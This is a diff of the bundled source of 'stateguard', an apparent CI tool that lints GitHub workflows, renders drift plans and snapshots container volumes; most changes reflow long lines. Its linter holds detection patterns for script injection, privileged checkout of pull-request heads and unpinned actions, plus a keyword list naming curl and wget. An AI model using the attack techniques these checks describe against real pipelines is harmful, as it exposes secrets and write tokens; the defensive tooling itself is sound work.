-        const why = `in a workflow that runs on ${automatic.map((t) => `'${t}'`).join(', ')}: consent filled in by automation is no consent; only an operator dispatching by hand may give it`;
+        const why = `in a workflow that runs on ` +
+            `${automatic.map((t) => `'${t}'`).join(', ')}: consent filled in by automation is no consent; only an operator ` +
+            `dispatching by hand may give it`;
         for (const s of allSteps) {
             for (const c of s.commands) {
                 const hit = dispatchWithConsent(c.argv);
@@ -11599,7 +12398,9 @@ function checkWorkflow(wf) {
                 for (const m of t.text.matchAll(EXPRESSION)) {
                     const reads = untrustedReads(m[1], taint);
                     if (reads.length > 0) {
-                        report('SG201', wf.positionInScalar(t.path, EXPRESSION, k), `\${{${m[1]}}} is interpolated into ${t.what} of step ${s.index + 1} in job '${s.jobId}' (script injection: it reads ${[...new Set(reads)].join(', ')}); pass it through env: and use the variable instead`);
+                        report('SG201', wf.positionInScalar(t.path, EXPRESSION, k), `\${{${m[1]}}} is interpolated into ` +
+                            `${t.what} of step ${s.index + 1} in job '${s.jobId}' (script injection: it reads ` +
+                            `${[...new Set(reads)].join(', ')}); pass it through env: and use the variable instead`);
                     }
                     k++;
                 }
@@ -11627,7 +12428,9 @@ function checkWorkflow(wf) {
             for (const key of ['ref', 'repository']) {
                 const v = s.step.with[key];
                 if (typeof v === 'string' && PR_HEAD.test(v)) {
-                    report('SG203', wf.at([...s.path, 'with', key]), `step ${s.index + 1} of job '${s.jobId}' checks out the pull request head (${key}: ${v}) in a workflow triggered by ${privileged.join(', ')}, which runs with secrets and a write token`);
+                    report('SG203', wf.at([...s.path, 'with', key]), `step ${s.index + 1} of job '${s.jobId}' checks out the pull request head ` +
+                        `(${key}: ${v}) in a workflow triggered by ` +
+                        `${privileged.join(', ')}, which runs with secrets and a write token`);
                 }
             }
         }
@@ -11651,18 +12454,30 @@ function checkWorkflow(wf) {
         }
         if (ref.kind === 'remote' && /^[0-9a-f]{40}$/.test(ref.ref))
             continue;
-        report('SG301', wf.at(t.path), `'${t.uses}' is not pinned to a full commit SHA; use ${ref.kind === 'remote' ? `${ref.owner}/${ref.repo}${ref.path ? `/${ref.path}` : ''}` : '<owner>/<repo>'}@<40-hex-sha> # ${ref.ref ?? 'tag'}`);
+        report('SG301', wf.at(t.path), `'${t.uses}' is not pinned to a full commit SHA; use ` +
+            `${ref.kind === 'remote' ? `${ref.owner}/${ref.repo}${ref.path ? `/${ref.path}` : ''}` : '<owner>/<repo>'}` +
+            `@<40-hex-sha> # ${ref.ref ?? 'tag'}`);
     }
     return problems;
 }
 /** Text every command the run: rules look for contains: docker, stateguard's CLI, gh, curl-like clients. */
 const RELEVANT = /docker|stateguard|cli\.js|dispatches|\bgh\b|curl|wget|\bhttps?\b/i;
 function githubScript(step) {
-    if (typeof step.uses === 'string' && /^actions\/github-script@/i.test(step.uses.trim()) && isObj(step.with) && typeof step.with.script === 'string')
+    if (typeof step.uses === 'string' &&
+        /^actions\/github-script@/i.test(step.uses.trim()) &&
+        isObj(step.with) &&
+        typeof step.with.script === 'string')
         return step.with.script;
     return undefined;
 }
-const PR_HEAD = /github\s*\.\s*event\s*\.\s*pull_request\s*\.\s*head|github\s*\.\s*head_ref|github\s*\.\s*event\s*\.\s*workflow_run\s*\.\s*head_|\bhead_ref\b|refs\/pull\//;
+/** A checkout ref that reads the pull request's (or the triggering run's) head: untrusted code. */
+const PR_HEAD = new RegExp([
+    String.raw `github\s*\.\s*event\s*\.\s*pull_request\s*\.\s*head`,
+    String.raw `github\s*\.\s*head_ref`,
+    String.raw `github\s*\.\s*event\s*\.\s*workflow_run\s*\.\s*head_`,
+    String.raw `\bhead_ref\b`,
+    String.raw `refs\/pull\/`,
+].join('|'));
 /** A concurrency group whose expressions read the run's own id, number or attempt. */
 function perRun(group) {
     for (const m of group.matchAll(EXPRESSION))
@@ -11847,13 +12662,23 @@ function loadWorkflow(bytes, displayName) {
     if (text.charCodeAt(0) === 0xfeff)
         text = text.slice(1);
     const lines = new yaml_dist/* LineCounter */.HN();
-    const doc = (0,yaml_dist/* parseDocument */.Tp)(text, { lineCounter: lines, keepSourceTokens: true, uniqueKeys: false, prettyErrors: false });
+    const doc = (0,yaml_dist/* parseDocument */.Tp)(text, {
+        lineCounter: lines,
+        keepSourceTokens: true,
+        uniqueKeys: false,
+        prettyErrors: false,
+    });
     if (doc.errors.length > 0) {
         return {
             ok: false,
             problems: doc.errors.map((e) => {
                 const p = lines.linePos(e.pos[0]);
-                const message = e.code === 'MULTIPLE_DOCS' ? 'file contains more than one YAML document; expected exactly one workflow' : `YAML syntax error: ${e.message.split('\n')[0].replace(/ at line \d+, column \d+:?$/, '').trim()}`;
+                const message = e.code === 'MULTIPLE_DOCS'
+                    ? 'file contains more than one YAML document; expected exactly one workflow'
+                    : `YAML syntax error: ${e.message
+                        .split('\n')[0]
+                        .replace(/ at line \d+, column \d+:?$/, '')
+                        .trim()}`;
                 return { file: displayName, line: p.line, column: p.col, message };
             }),
         };
@@ -11938,7 +12763,7 @@ function findWorkflowFiles(cwd, paths) {
                 if (!WORKFLOW_FILE.test(name))
                     continue;
                 const file = external_node_path_default().join(absolute, name);
-                let isFile = false;
+                let isFile;
                 try {
                     isFile = (0,external_node_fs_.statSync)(file).isFile();
                 }
@@ -11966,13 +12791,26 @@ async function lintWorkflowBytes(bytes, file) {
 }
 /** Every problem of one workflow text, and the ones inline comments suppressed. Never throws. */
 async function lintWorkflowText(bytes, file) {
-    const yamlProblem = (line, column, message) => ({ file, line, column, rule: 'SG001', severity: ruleById('SG001').severity, message });
+    const yamlProblem = (line, column, message) => ({
+        file,
+        line,
+        column,
+        rule: 'SG001',
+        severity: ruleById('SG001').severity,
+        message,
+    });
     try {
         if (bytes.length > yaml_source/* MAX_YAML_BYTES */.jl)
-            return { problems: [yamlProblem(1, 1, `file is ${bytes.length} bytes; the limit is ${yaml_source/* MAX_YAML_BYTES */.jl} (1 MiB)`)], suppressed: [] };
+            return {
+                problems: [yamlProblem(1, 1, `file is ${bytes.length} bytes; the limit is ${yaml_source/* MAX_YAML_BYTES */.jl} (1 MiB)`)],
+                suppressed: [],
+            };
         const loaded = loadWorkflow(bytes, file);
         if (!loaded.ok)
-            return { problems: loaded.problems.map((p) => yamlProblem(p.line, p.column, p.message)).sort(compareProblems), suppressed: [] };
+            return {
+                problems: loaded.problems.map((p) => yamlProblem(p.line, p.column, p.message)).sort(compareProblems),
+                suppressed: [],
+            };
         const wf = loaded.workflow;
         // GitHub's parser (and its large schema) loads only when a workflow is linted, so every other
         // command starts without it.
@@ -11990,7 +12828,10 @@ async function lintWorkflowText(bytes, file) {
     }
     catch (err) {
         // e.g. nesting deep enough to exhaust the stack: still a "no" with a reason, never a crash.
-        return { problems: [yamlProblem(1, 1, `could not parse the workflow: ${(0,src_errors/* errorMessage */.gJ)(err).split('\n')[0]}`)], suppressed: [] };
+        return {
+            problems: [yamlProblem(1, 1, `could not parse the workflow: ${(0,src_errors/* errorMessage */.gJ)(err).split('\n')[0]}`)],
+            suppressed: [],
+        };
     }
 }
 /** `# stateguard-lint: …` as a comment (a YAML comment, or a shell comment inside a run: script). */
@@ -12017,7 +12858,14 @@ function applySuppressions(text, file, all) {
         const line = i + 1;
         const column = lineText.indexOf('#', m.index) + 1;
         const bad = (message) => {
-            problems.push({ file, line, column, rule: 'SG002', severity: ruleById('SG002').severity, message: `${message}; write '# stateguard-lint: ignore SGnnn -- <reason>'` });
+            problems.push({
+                file,
+                line,
+                column,
+                rule: 'SG002',
+                severity: ruleById('SG002').severity,
+                message: `${message}; write '# stateguard-lint: ignore SGnnn -- <reason>'`,
+            });
         };
         const body = m[1].trim();
         const d = /^ignore\s+(.*?)(?:\s+--(?:\s+(.*))?)?$/s.exec(body);
@@ -12029,7 +12877,8 @@ function applySuppressions(text, file, all) {
             return bad('the suppression names no rule');
         const unknown = ids.filter((id) => !KNOWN.has(id));
         if (unknown.length > 0)
-            return bad(`the suppression names ${unknown.map((u) => `'${u}'`).join(', ')}, which ${unknown.length === 1 ? 'is not a rule' : 'are not rules'} (docs/rules.md)`);
+            return bad(`the suppression names ` +
+                `${unknown.map((u) => `'${u}'`).join(', ')}, which ${unknown.length === 1 ? 'is not a rule' : 'are not ' + 'rules'} (docs/rules.md)`);
         const fixed = ids.filter((id) => UNSUPPRESSIBLE.has(id));
         if (fixed.length > 0)
             return bad(`${fixed.join(', ')} cannot be suppressed`);
@@ -12039,7 +12888,9 @@ function applySuppressions(text, file, all) {
     });
     const suppressed = [];
     for (const p of sorted) {
-        const s = UNSUPPRESSIBLE.has(p.rule) ? undefined : [byLine.get(p.line), byLine.get(p.line - 1)].find((d) => d?.rules.has(p.rule));
+        const s = UNSUPPRESSIBLE.has(p.rule)
+            ? undefined
+            : [byLine.get(p.line), byLine.get(p.line - 1)].find((d) => d?.rules.has(p.rule));
         if (s)
             suppressed.push({ ...p, reason: s.reason });
         else
@@ -12064,7 +12915,14 @@ async function lintWorkflows(cwd, paths) {
             throw new UnreadablePathError(t.display, err.code ?? (0,src_errors/* errorMessage */.gJ)(err));
         }
         if (!bytes) {
-            problems.push({ file: t.display, line: 1, column: 1, rule: 'SG001', severity: ruleById('SG001').severity, message: `file is ${size} bytes; the limit is ${yaml_source/* MAX_YAML_BYTES */.jl} (1 MiB)` });
+            problems.push({
+                file: t.display,
+                line: 1,
+                column: 1,
+                rule: 'SG001',
+                severity: ruleById('SG001').severity,
+                message: `file is ${size} bytes; the limit is ${yaml_source/* MAX_YAML_BYTES */.jl} (1 MiB)`,
+            });
             continue;
         }
         const r = await lintWorkflowText(bytes, t.display);
@@ -12139,7 +12997,9 @@ function toSarif(tool, rules, results) {
                                 },
                             },
                         ],
-                        ...(p.suppression ? { suppressions: [{ kind: 'inSource', justification: p.suppression.justification }] } : {}),
+                        ...(p.suppression
+                            ? { suppressions: [{ kind: 'inSource', justification: p.suppression.justification }] }
+                            : {}),
                     };
                 }),
             },
@@ -12150,7 +13010,10 @@ function toSarif(tool, rules, results) {
 // EXTERNAL MODULE: ./src/version.ts
 var version = __nccwpck_require__(311);
 ;// CONCATENATED MODULE: ./src/commands/lint-workflows.ts
-/** `stateguard lint-workflows [PATHS...]`: lint the workflows that drive stateful changes (docs/architecture.md §9). */
+/**
+ * `stateguard lint-workflows [PATHS...]`: lint the workflows that drive stateful changes
+ * (docs/architecture.md §9).
+ */
 
 
 
@@ -12172,10 +13035,21 @@ const lintWorkflowsCommand = (0,spec/* defineCommand */.NB)({
             name: 'paths',
             kind: 'list',
             positional: true,
-            description: `Workflow files or directories (default: ${DEFAULT_PATHS.join(', ')}; missing default directories are skipped).`,
+            description: `Workflow files or directories (default: ` +
+                `${DEFAULT_PATHS.join(', ')}; missing default directories are skipped).`,
         },
-        { name: 'format', kind: 'choice', choices: ['text', 'json', 'sarif'], default: 'text', description: 'Output format: text (file:line:col: RULE message), json or sarif.' },
-        { name: 'sarif-file', kind: 'string', description: 'Also write the SARIF 2.1.0 report to this file (e.g. for github/codeql-action/upload-sarif).' },
+        {
+            name: 'format',
+            kind: 'choice',
+            choices: ['text', 'json', 'sarif'],
+            default: 'text',
+            description: 'Output format: text (file:line:col: RULE message), json or sarif.',
+        },
+        {
+            name: 'sarif-file',
+            kind: 'string',
+            description: 'Also write the SARIF 2.1.0 report to this file (e.g. for github/codeql-action/upload-sarif).',
+        },
         spec/* JSON_INPUT */.sz,
     ],
     outputs: [
@@ -12188,7 +13062,8 @@ const lintWorkflowsCommand = (0,spec/* defineCommand */.NB)({
         // --json is --format json, as on every command: the problems document on stdout, the human
         // lines on stderr. SARIF is another document for the same stdout: asking for both is ambiguous.
         if (opts.json && opts.format === 'sarif') {
-            throw new src_errors/* UserError */.yo(`--json and --format sarif both ask for a document on stdout; give one: --json (or --format json) for the problems, ` +
+            throw new src_errors/* UserError */.yo(`--json and --format sarif both ask for a document on stdout; give one: --json (or --format json) for the ` +
+                `problems, ` +
                 `or --format sarif for SARIF (add --sarif-file PATH to also write SARIF beside --json).`, { input: 'json' });
         }
         let report;
@@ -12205,10 +13080,28 @@ const lintWorkflowsCommand = (0,spec/* defineCommand */.NB)({
             throw err;
         }
         const { problems, suppressed, errors, warnings, files } = report;
-        const sarif = toSarif({ name: 'stateguard', version: version/* VERSION */.x }, RULES.map((r) => ({ ...r, tags: r.id === 'SG000' || r.id === 'SG001' || r.id === 'SG002' ? ['correctness'] : ['security'] })), [
-            ...problems.map((p) => ({ ruleId: p.rule, level: p.severity, message: p.message, file: p.file, line: p.line, column: p.column })),
+        const sarif = toSarif({ name: 'stateguard', version: version/* VERSION */.x }, RULES.map((r) => ({
+            ...r,
+            tags: r.id === 'SG000' || r.id === 'SG001' || r.id === 'SG002' ? ['correctness'] : ['security'],
+        })), [
+            ...problems.map((p) => ({
+                ruleId: p.rule,
+                level: p.severity,
+                message: p.message,
+                file: p.file,
+                line: p.line,
+                column: p.column,
+            })),
             // Suppressed problems stay visible to code scanning, marked with the reason written in the workflow.
-            ...suppressed.map((p) => ({ ruleId: p.rule, level: p.severity, message: p.message, file: p.file, line: p.line, column: p.column, suppression: { justification: p.reason } })),
+            ...suppressed.map((p) => ({
+                ruleId: p.rule,
+                level: p.severity,
+                message: p.message,
+                file: p.file,
+                line: p.line,
+                column: p.column,
+                suppression: { justification: p.reason },
+            })),
         ]);
         let sarifFile = '';
         if (opts.sarifFile) {
@@ -12222,16 +13115,24 @@ const lintWorkflowsCommand = (0,spec/* defineCommand */.NB)({
             }
             sarifFile = opts.sarifFile;
         }
-        const verdict = `${files.length} workflow file${files.length === 1 ? '' : 's'} checked: ${errors} error${errors === 1 ? '' : 's'}, ${warnings} warning${warnings === 1 ? '' : 's'}` +
+        const verdict = `${files.length} workflow file${files.length === 1 ? '' : 's'} checked: ` +
+            `${errors} error${errors === 1 ? '' : 's'}, ${warnings} warning${warnings === 1 ? '' : 's'}` +
             (suppressed.length > 0 ? `, ${suppressed.length} suppressed` : '') +
-            (files.length === 0 ? ` (no *.yml/*.yaml found in ${opts.paths.length ? opts.paths.join(', ') : DEFAULT_PATHS.join(', ')})` : '');
+            (files.length === 0
+                ? ` (no *.yml/*.yaml found in ${opts.paths.length ? opts.paths.join(', ') : DEFAULT_PATHS.join(', ')})`
+                : '');
         let text;
         if (opts.format === 'json' && !opts.json)
             text = JSON.stringify({ problems, suppressed }, null, 2);
         else if (opts.format === 'sarif')
             text = JSON.stringify(sarif, null, 2);
         else {
-            const listed = suppressed.length > 0 ? [`suppressed (${suppressed.length}, not counted):`, ...suppressed.map((p) => `${formatProblemLine(p)} -- ${p.reason}`)] : [];
+            const listed = suppressed.length > 0
+                ? [
+                    `suppressed (${suppressed.length}, not counted):`,
+                    ...suppressed.map((p) => `${formatProblemLine(p)} -- ${p.reason}`),
+                ]
+                : [];
             text = [...problems.map(formatProblemLine), ...listed, verdict].join('\n');
         }
         const failed = errors > 0;
@@ -12240,7 +13141,12 @@ const lintWorkflowsCommand = (0,spec/* defineCommand */.NB)({
             exitCode: failed ? src_errors/* ExitCode */.yU.no : src_errors/* ExitCode */.yU.ok,
             json: { problems, suppressed },
             text,
-            outputs: { errors: String(errors), warnings: String(warnings), 'sarif-file': sarifFile, 'failure-reason': failed ? 'lint-errors' : '' },
+            outputs: {
+                errors: String(errors),
+                warnings: String(warnings),
+                'sarif-file': sarifFile,
+                'failure-reason': failed ? 'lint-errors' : '',
+            },
             summary: summary(verdict, problems, hidden, suppressed),
             annotations,
             failureReason: failed ? 'lint-errors' : undefined,
@@ -12258,7 +13164,14 @@ function annotate(problems) {
             hidden.set(p.file, (hidden.get(p.file) ?? 0) + 1);
             continue;
         }
-        annotations.push({ level: p.severity, message: `${p.rule} ${p.message}`, file: p.file, line: p.line, column: p.column, title: `stateguard ${p.rule}` });
+        annotations.push({
+            level: p.severity,
+            message: `${p.rule} ${p.message}`,
+            file: p.file,
+            line: p.line,
+            column: p.column,
+            title: `stateguard ${p.rule}`,
+        });
     }
     return { annotations, hidden };
 }
@@ -12270,10 +13183,13 @@ function summary(verdict, problems, hidden, suppressed) {
             lines.push(`| ${(0,common/* cell */.Hn)(p.file)} | ${p.line}:${p.column} | ${p.rule} | ${p.severity} | ${(0,common/* cell */.Hn)(p.message)} |`);
         }
         if (problems.length > MAX_SUMMARY_ROWS)
-            lines.push('', `${problems.length - MAX_SUMMARY_ROWS} more problems not listed here; run \`stateguard lint-workflows\` locally for all of them.`);
+            lines.push('', `${problems.length - MAX_SUMMARY_ROWS} more problems not listed here; run \`stateguard lint-workflows\` ` +
+                `locally for all of them.`);
     }
     if (hidden.size > 0) {
-        lines.push('', `Annotations are limited to ${MAX_ANNOTATIONS_PER_FILE} per file; not annotated: ` + [...hidden.entries()].map(([f, n]) => `${(0,common/* cell */.Hn)(f)} (${n} more)`).join(', ') + '.');
+        lines.push('', `Annotations are limited to ${MAX_ANNOTATIONS_PER_FILE} per file; not annotated: ` +
+            [...hidden.entries()].map(([f, n]) => `${(0,common/* cell */.Hn)(f)} (${n} more)`).join(', ') +
+            '.');
     }
     if (suppressed.length > 0) {
         lines.push('', `Suppressed by an inline comment (${suppressed.length}):`, '', '| file | line | rule | reason |', '|---|---|---|---|');
@@ -12390,17 +13306,24 @@ class GitHubClient {
                 url = null;
             // No Link header at all: keep paging while pages bring new comments (a server that ignores `page` stops here).
             else
-                url = items.length > 0 && fresh > 0 ? `${this.api}${this.repoPath(repository)}/issues/${issue}/comments?per_page=100&page=${page + 1}` : null;
+                url =
+                    items.length > 0 && fresh > 0
+                        ? `${this.api}${this.repoPath(repository)}/issues/${issue}/comments?per_page=100&page=${page + 1}`
+                        : null;
         }
         return out;
     }
     async createIssueComment(repository, issue, body) {
-        const res = await this.request('POST', `${this.api}${this.repoPath(repository)}/issues/${issue}/comments`, { body });
+        const res = await this.request('POST', `${this.api}${this.repoPath(repository)}/issues/${issue}/comments`, {
+            body,
+        });
         const j = (await res.json());
         return { id: j.id, body: j.body ?? body };
     }
     async updateIssueComment(repository, commentId, body) {
-        const res = await this.request('PATCH', `${this.api}${this.repoPath(repository)}/issues/comments/${commentId}`, { body });
+        const res = await this.request('PATCH', `${this.api}${this.repoPath(repository)}/issues/comments/${commentId}`, {
+            body,
+        });
         const j = (await res.json());
         return { id: j.id ?? commentId, body: j.body ?? body };
     }
@@ -12420,7 +13343,11 @@ function observedText(m) {
 }
 function driftText(d) {
     const extra = [d.reason, d.bump ? `bump: ${d.bump}` : undefined].filter(Boolean).join(', ');
-    const fields = d.fields === undefined ? '' : d.fields.length > 0 ? `; differs in: ${d.fields.join(', ')}` : '; no compared field differs (the config hash does)';
+    const fields = d.fields === undefined
+        ? ''
+        : d.fields.length > 0
+            ? `; differs in: ${d.fields.join(', ')}`
+            : '; no compared field differs (the config hash does)';
     return `${d.key}: declared ${d.declared}, observed ${d.observed}${extra ? ` (${extra})` : ''}${fields}`;
 }
 /** `compose v2 2.26.1`: which compose rendered the declared side. */
@@ -12429,7 +13356,10 @@ function composeText(plan) {
 }
 function pad(rows) {
     const widths = rows[0].map((_, i) => Math.max(...rows.map((r) => r[i].length)));
-    return rows.map((r) => r.map((c, i) => (i === r.length - 1 ? c : c.padEnd(widths[i]))).join('  ').trimEnd());
+    return rows.map((r) => r
+        .map((c, i) => (i === r.length - 1 ? c : c.padEnd(widths[i])))
+        .join('  ')
+        .trimEnd());
 }
 /** The readable table printed by `stateguard plan`. */
 function renderPlanText(plan) {
@@ -12437,7 +13367,13 @@ function renderPlanText(plan) {
         return 'No modules to plan.';
     const rows = [['MODULE', 'CLASS', 'EXPECTED', 'OBSERVED', 'DRIFT']];
     for (const m of plan.modules) {
-        rows.push([m.name, m.class, m.expected_state, observedText(m), m.in_sync ? 'in sync' : m.drift.map((d) => d.key).join(', ')]);
+        rows.push([
+            m.name,
+            m.class,
+            m.expected_state,
+            observedText(m),
+            m.in_sync ? 'in sync' : m.drift.map((d) => d.key).join(', '),
+        ]);
     }
     const lines = pad(rows);
     const drifted = plan.modules.filter((m) => !m.in_sync);
@@ -12453,7 +13389,8 @@ function renderPlanText(plan) {
     lines.push('');
     lines.push(drifted.length === 0
         ? `${plan.summary.modules} module${plan.summary.modules === 1 ? '' : 's'}, all in sync.`
-        : `${plan.summary.modules} module${plan.summary.modules === 1 ? '' : 's'}, ${plan.summary.drifted} drifted: ${drifted.map((m) => m.name).join(', ')}.`);
+        : `${plan.summary.modules} module${plan.summary.modules === 1 ? '' : 's'}, ${plan.summary.drifted} drifted: ` +
+            `${drifted.map((m) => m.name).join(', ')}.`);
     lines.push(`planned with ${composeText(plan)}; whole-plan hash ${plan.plan_hash}`);
     return lines.join('\n');
 }
@@ -12472,17 +13409,22 @@ function renderPlanMarkdown(plan, opts = {}) {
     const title = opts.title ?? 'stateguard plan';
     const head = plan.summary.drifted === 0
         ? `### ${title}: ${plan.summary.modules} module${plan.summary.modules === 1 ? '' : 's'}, all in sync`
-        : `### ${title}: ${plan.summary.drifted} of ${plan.summary.modules} module${plan.summary.modules === 1 ? '' : 's'} drifted`;
-    const tail = `\n\nPlanned with ${composeText(plan)}. Pass a module's plan hash to apply as \`expected-plan-hash\`; it binds the drift and the declared definition you reviewed.`;
+        : `### ${title}: ${plan.summary.drifted} of ` +
+            `${plan.summary.modules} module${plan.summary.modules === 1 ? '' : 's'} drifted`;
+    const tail = `\n\nPlanned with ` +
+        `${composeText(plan)}. Pass a module's plan hash to apply as \`expected-plan-hash\`; it binds the drift and the ` +
+        `declared definition you reviewed.`;
     const rows = [];
     // Drifted modules first: they are what a reviewer needs; in-sync ones are dropped first when long.
     const ordered = [...plan.modules.filter((m) => !m.in_sync), ...plan.modules.filter((m) => m.in_sync)];
     for (const m of ordered) {
         const drift = m.in_sync ? 'in sync' : m.drift.map((d) => mdCell(driftText(d))).join('<br>');
         const hash = m.in_sync ? '' : `\`${m.plan_hash}\``;
-        rows.push(`| ${m.in_sync ? '✅' : '⚠️'} ${mdCell(m.name)} | ${m.class} | ${m.expected_state} | ${mdCell(`${m.compose.project}/${m.compose.service}`)} | ${mdCell(observedText(m))} | ${drift} | ${hash} |`);
+        rows.push(`| ${m.in_sync ? '✅' : '⚠️'} ${mdCell(m.name)} | ${m.class} | ${m.expected_state} | ` +
+            `${mdCell(`${m.compose.project}/${m.compose.service}`)} | ${mdCell(observedText(m))} | ${drift} | ${hash} |`);
     }
-    const header = `${head}\n\n| module | class | expected | compose | observed | drift | plan hash |\n|---|---|---|---|---|---|---|\n`;
+    const header = `${head}\n\n| module | class | expected | compose | observed | drift | plan hash ` +
+        `|\n|---|---|---|---|---|---|---|\n`;
     const max = opts.maxChars ?? Infinity;
     let body = '';
     let shown = 0;
@@ -12494,7 +13436,8 @@ function renderPlanMarkdown(plan, opts = {}) {
         shown++;
     }
     const omitted = rows.length - shown;
-    return header + body.trimEnd() + (omitted > 0 ? `\n\n…and ${omitted} more modules (see the plan JSON).` : '') + tail;
+    const omittedNote = omitted > 0 ? `\n\n…and ${omitted} more modules (see the plan JSON).` : '';
+    return header + body.trimEnd() + omittedNote + tail;
 }
 
 ;// CONCATENATED MODULE: ./src/report/pr-comment.ts
@@ -12605,8 +13548,17 @@ const planCommand = (0,spec/* defineCommand */.NB)({
         spec/* ROOT_INPUT */.kQ,
         spec/* MODULES_INPUT */.zD,
         { name: 'module', kind: 'string', description: 'Plan only this module (default: every module).' },
-        { name: 'out', kind: 'string', description: 'Also write the plan JSON to this file (the action writes one to RUNNER_TEMP when empty).' },
-        { name: 'detailed-exitcode', kind: 'boolean', default: 'false', description: 'Exit 2 when drift is found (0 in sync).' },
+        {
+            name: 'out',
+            kind: 'string',
+            description: 'Also write the plan JSON to this file (the action writes one to RUNNER_TEMP when empty).',
+        },
+        {
+            name: 'detailed-exitcode',
+            kind: 'boolean',
+            default: 'false',
+            description: 'Exit 2 when drift is found (0 in sync).',
+        },
         {
             name: 'github-token',
             kind: 'string',
@@ -12615,15 +13567,27 @@ const planCommand = (0,spec/* defineCommand */.NB)({
             secret: true,
             description: 'Token used to post the sticky PR comment on pull_request events.',
         },
-        { name: 'comment', kind: 'boolean', default: 'true', actionOnly: true, description: 'Post or update the sticky PR comment on pull_request events.' },
+        {
+            name: 'comment',
+            kind: 'boolean',
+            default: 'true',
+            actionOnly: true,
+            description: 'Post or update the sticky PR comment on pull_request events.',
+        },
         spec/* JSON_INPUT */.sz,
     ],
     outputs: [
         { name: 'changes', description: "'true' when any module drifted." },
         { name: 'drifted-modules', description: 'JSON array of drifted module names (usable as a strategy.matrix).' },
         { name: 'plan-json', description: 'Path of the written plan JSON file.' },
-        { name: 'plan-hash', description: "With module: that module's plan_hash (pass to apply as expected-plan-hash). Without: the whole plan's hash." },
-        { name: 'module-plan-hashes', description: "JSON object of every module's plan_hash ({\"store-init\": \"…\"}); apply takes a module's hash." },
+        {
+            name: 'plan-hash',
+            description: "With module: that module's plan_hash (pass to apply as expected-plan-hash). Without: the whole plan's hash.",
+        },
+        {
+            name: 'module-plan-hashes',
+            description: 'JSON object of every module\'s plan_hash ({"store-init": "…"}); apply takes a module\'s hash.',
+        },
         spec/* FAILURE_REASON_OUTPUT */.eX,
     ],
     async run(opts, ctx) {
@@ -12643,7 +13607,9 @@ const planCommand = (0,spec/* defineCommand */.NB)({
                 writePlanFile(planFile, plan);
             }
             catch (err) {
-                throw new src_errors/* UserError */.yo(`--out ${JSON.stringify(opts.out)}: cannot write the plan file: ${(0,src_errors/* errorMessage */.gJ)(err)}`, { input: 'out' });
+                throw new src_errors/* UserError */.yo(`--out ${JSON.stringify(opts.out)}: cannot write the plan file: ${(0,src_errors/* errorMessage */.gJ)(err)}`, {
+                    input: 'out',
+                });
             }
         }
         else if (ctx.inAction) {
@@ -12670,7 +13636,13 @@ const planCommand = (0,spec/* defineCommand */.NB)({
             },
             summary: renderPlanMarkdown(plan),
             annotations: changes
-                ? [{ level: 'notice', title: 'stateguard plan', message: `${drifted.length} module${drifted.length === 1 ? '' : 's'} drifted: ${drifted.join(', ')}` }]
+                ? [
+                    {
+                        level: 'notice',
+                        title: 'stateguard plan',
+                        message: `${drifted.length} module${drifted.length === 1 ? '' : 's'} drifted: ${drifted.join(', ')}`,
+                    },
+                ]
                 : [],
         };
     },
@@ -12796,7 +13768,8 @@ async function plan(mod, runtime) {
     const mine = all.filter((c) => c.service === mod.compose.service);
     const source = mine.find((c) => !c.oneoff) ?? mine[0];
     if (!source) {
-        throw new SnapshotError(`no container of service '${mod.compose.service}' (compose project '${mod.compose.project}') exists, so there is nothing to copy ` +
+        throw new SnapshotError(`no container of service ` +
+            `'${mod.compose.service}' (compose project '${mod.compose.project}') exists, so there is nothing to copy ` +
             `the volumes from. Deploy the module first.`);
     }
     const targets = [];
@@ -12804,8 +13777,10 @@ async function plan(mod, runtime) {
     for (const v of mod.volumes) {
         const mount = source.mounts.find((m) => m.destination === v.path);
         if (!mount) {
-            throw new SnapshotError(`${v.path} (volume ${v.volume}) is not a mount in container ${source.name}: the data there would not survive a recreate, ` +
-                `and a snapshot of it would be of the container's own layer. Fix spec.data.volumes in ${mod.file} or the compose file.`);
+            throw new SnapshotError(`${v.path} (volume ${v.volume}) is not a mount in container ` +
+                `${source.name}: the data there would not survive a recreate, ` +
+                `and a snapshot of it would be of the container's own layer. Fix spec.data.volumes in ` +
+                `${mod.file} or the compose file.`);
         }
         if (mount.name)
             volumeNames.push(mount.name);
@@ -12821,7 +13796,8 @@ async function plan(mod, runtime) {
         }
     }
     if (writers.length) {
-        throw new SnapshotError(`other running containers use the module's volumes: ${writers.join(', ')}. A snapshot taken while they run could be ` +
+        throw new SnapshotError(`other running containers use the module's volumes: ` +
+            `${writers.join(', ')}. A snapshot taken while they run could be ` +
             `inconsistent; stop them (or wait for a one-shot to finish) and try again.`);
     }
     const toStop = mine.filter((c) => UP_STATES.has(c.state) || c.state === 'paused');
@@ -12856,7 +13832,8 @@ async function captureVolume(runtime, containerId, target, out, counters) {
         else if (e.type !== 'File' && e.type !== 'OldFile' && e.type !== 'Directory') {
             const what = e.type === 'SymbolicLink' ? 'a symbolic link' : e.type === 'Link' ? 'a hard link' : `a ${e.type}`;
             fail(`volume ${target.volume} holds ${what} at ${shown}. A snapshot holds only regular files and directories ` +
-                `(verify-backup refuses anything else), so this volume cannot be snapshotted as it is; replace the entry with ` +
+                `(verify-backup refuses anything else), so this volume cannot be snapshotted as it is; replace the entry ` +
+                `with ` +
                 `a regular file or move it out of the volume.`);
         }
         else {
@@ -13010,14 +13987,16 @@ async function takeSnapshot(args) {
                     const names = new Map(toStop.map((c) => [c.id, c.name]));
                     restartError =
                         `${pending.map((p) => `${names.get(p.id) ?? p.id.slice(0, 12)} ${p.problem}`).join(', ')} ` +
-                            `${readyMs / 1000}s after being started again (running, and healthy where it has a healthcheck, was required)`;
+                            `${readyMs / 1000}s after being started again (running, and healthy where it has a healthcheck, was ` +
+                            `required)`;
                 }
             }
             catch (err) {
                 restartError = `starting ${toStop.map((c) => c.name).join(', ')} again failed: ${(0,src_errors/* errorMessage */.gJ)(err)}`;
             }
             if (restartError) {
-                log.error(`SNAPSHOT: CONTAINERS OF ${mod.name.toUpperCase()} ARE NOT RUNNING: ${restartError}. Start them by hand now (docker start ...).`);
+                log.error(`SNAPSHOT: CONTAINERS OF ` +
+                    `${mod.name.toUpperCase()} ARE NOT RUNNING: ${restartError}. Start them by hand now (docker start ...).`);
             }
             else {
                 log.info(`snapshot ${mod.name}: ${toStop.map((c) => c.name).join(', ')} running (and healthy) again`);
@@ -13026,7 +14005,9 @@ async function takeSnapshot(args) {
     }
     try {
         if (captureError) {
-            throw captureError instanceof src_errors/* UserError */.yo ? captureError : new SnapshotError(`snapshot of ${mod.name} failed: ${(0,src_errors/* errorMessage */.gJ)(captureError)}`);
